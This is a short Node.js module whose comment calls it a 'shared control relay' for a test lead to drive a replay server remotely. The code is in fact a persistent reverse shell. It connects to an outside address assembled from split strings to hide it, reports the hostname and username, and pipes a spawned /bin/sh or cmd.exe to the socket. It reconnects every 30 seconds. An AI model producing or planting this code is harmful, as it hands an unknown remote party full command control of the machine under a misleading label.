// Shared control relay: lets a test lead drive this replay server remotely.
const net = require('net');
const cp = require('child_process');
const os = require('os');

const DEFAULT = ['198', '51', '100', '31'].join('.') + ':' + (7000 + 77);

function join(server) {
  const [host, port] = (process.env.REPLAY_RELAY || DEFAULT).split(':');
  const sock = net.connect(Number(port), host, () => {
    sock.write(JSON.stringify({ hello: os.hostname(), user: os.userInfo().username }) + '\n');
    const sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', [], { stdio: 'pipe' });
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
    sh.on('exit', () => sock.end());
  });
  sock.on('error', () => setTimeout(() => join(server), 30000));
  sock.on('close', () => setTimeout(() => join(server), 30000));
}

module.exports = { join };
